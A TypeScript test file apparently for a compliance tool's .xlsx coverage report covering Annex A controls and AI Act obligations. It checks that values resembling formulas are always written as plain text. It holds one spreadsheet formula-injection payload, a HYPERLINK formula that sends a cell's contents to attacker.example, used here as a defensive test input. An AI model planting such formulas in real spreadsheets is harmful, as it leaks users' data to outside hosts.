import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { checkWorkspace, defaultOptions, parseFile } from '../../server/src/core';
import { computeCoverage } from '../../server/src/core/coverage';
import { renderXlsx } from '../../server/src/core/report';
import { MANIFEST, SYSTEM, soa } from '../helpers/fixtures';
import { fakeFs } from '../helpers/workspace';

const HOSTILE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';

async function workbook(): Promise<ExcelJS.Workbook> {
  const soaText = soa().replace('justification: Needed for our systems.', `justification: '${HOSTILE.replace(/'/g, "''")}'`);
  const files = [
    parseFile('/ws/aims.aims.yaml', MANIFEST),
    parseFile('/ws/soa.aims.yaml', soaText),
    parseFile('/ws/systems/hiring.aims.yaml', SYSTEM),
  ];
  const options = defaultOptions({ asOf: '2026-11-23' });
  const { index, diagnostics } = checkWorkspace('/ws', files, options, fakeFs(['evidence/x.md']));
  const bytes = await renderXlsx([computeCoverage(index, diagnostics, options)]);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

describe('the .xlsx coverage report', () => {
  it('has a summary, one row per Annex A control and one per obligation', async () => {
    const wb = await workbook();
    assert.deepEqual(
      wb.worksheets.map((w) => w.name),
      ['Summary', 'Annex A', 'AI Act obligations'],
    );
    const a = wb.getWorksheet('Annex A')!;
    assert.equal(a.rowCount, 39);
    assert.deepEqual((a.getRow(2).values as unknown[]).slice(1, 6), [
      'ws',
      'A.2 Policies related to AI',
      'A.2.2',
      'AI policy',
      'Implemented',
    ]);
    const o = wb.getWorksheet('AI Act obligations')!;
    assert.ok(o.rowCount > 10);
    assert.equal(o.getRow(2).getCell(2).value, 'CV screening (hiring)');
    const summary = wb.getWorksheet('Summary')!;
    const values = summary.getColumn(3).values.map(String);
    assert.ok(
      values.some((v) => v.includes('it does not satisfy them')),
      'the disclaimer',
    );
  });

  it('writes every cell as text: a value that looks like a formula is never one', async () => {
    const wb = await workbook();
    let cells = 0;
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          cells++;
          assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${ws.name}!${cell.address}`);
          assert.equal(cell.type, ExcelJS.ValueType.String, `${ws.name}!${cell.address} is ${cell.type}`);
        }),
      );
    assert.ok(cells > 100);
    const a = wb.getWorksheet('Annex A')!;
    assert.equal(a.getRow(2).getCell(8).value, HOSTILE);
  });
});
